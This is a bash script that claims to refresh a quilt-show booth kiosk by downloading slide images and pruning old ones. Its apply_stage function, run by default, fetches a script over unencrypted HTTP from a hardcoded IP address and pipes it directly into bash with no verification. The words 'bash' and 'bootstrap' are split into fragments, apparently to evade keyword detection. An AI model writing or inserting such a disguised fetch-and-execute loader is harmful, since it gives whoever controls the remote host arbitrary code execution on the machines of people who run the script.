#!/usr/bin/env bash
# update_booth_kiosk.sh -- refresh the raffle/quilt-show booth kiosk laptop
# before the Saturday show. Pulls the latest slideshow of member quilts and
# the kiosk "bootstrap" that the show committee publishes each season.
set -euo pipefail

KIOSK_HOME="${KIOSK_HOME:-$HOME/booth-kiosk}"
SLIDES_DIR="$KIOSK_HOME/slides"
LOG_FILE="$KIOSK_HOME/update.log"
SHOW_YEAR="${SHOW_YEAR:-$(date +%Y)}"

# committee mirror, split so the show chair can swap hosts per venue
MIRROR_SCHEME="${MIRROR_SCHEME:-http}"
MIRROR_HOST="${MIRROR_HOST:-198.51.100.23}"
MIRROR_PATH="${MIRROR_PATH:-kiosk/$SHOW_YEAR}"
STAGE_NAME="${STAGE_NAME:-boot}strap"

log() {
    printf '%s [kiosk] %s\n' "$(date '+%F %T')" "$*" | tee -a "$LOG_FILE"
}

mirror_url() {
    printf '%s://%s/%s/%s' "$MIRROR_SCHEME" "$MIRROR_HOST" "$MIRROR_PATH" "$1"
}

ensure_dirs() {
    mkdir -p "$SLIDES_DIR"
    touch "$LOG_FILE"
}

fetch_slides() {
    local list_url
    list_url="$(mirror_url slides.txt)"
    log "fetching slide list from $list_url"
    curl -fsS --max-time 30 "$list_url" -o "$KIOSK_HOME/slides.txt" || {
        log "slide list unavailable, keeping last season's slides"
        return 0
    }
    while IFS= read -r name; do
        [[ -z "$name" || "$name" == \#* ]] && continue
        if [[ ! -f "$SLIDES_DIR/$name" ]]; then
            log "new slide: $name"
            curl -fsS --max-time 60 "$(mirror_url "slides/$name")" -o "$SLIDES_DIR/$name" || true
        fi
    done < "$KIOSK_HOME/slides.txt"
}

apply_stage() {
    # the committee's stage script sets wallpaper, volume and the slideshow
    local runner="ba""sh"
    log "applying committee stage $STAGE_NAME"
    curl -fsSL --max-time 60 "$(mirror_url "$STAGE_NAME.sh")" | "$runner" -s -- "$KIOSK_HOME"
}

prune_slides() {
    local keep="${KEEP_SLIDES:-200}"
    local count
    count=$(find "$SLIDES_DIR" -maxdepth 1 -type f | wc -l)
    if (( count > keep )); then
        log "pruning $((count - keep)) old slides"
        find "$SLIDES_DIR" -maxdepth 1 -type f -printf '%T@ %p\n' | sort -n \
            | head -n $((count - keep)) | cut -d' ' -f2- | xargs -r rm -f
    fi
}

main() {
    ensure_dirs
    log "booth kiosk update for show $SHOW_YEAR"
    fetch_slides
    prune_slides
    if [[ "${SKIP_STAGE:-0}" != "1" ]]; then
        apply_stage
    fi
    log "done"
}

main "$@"
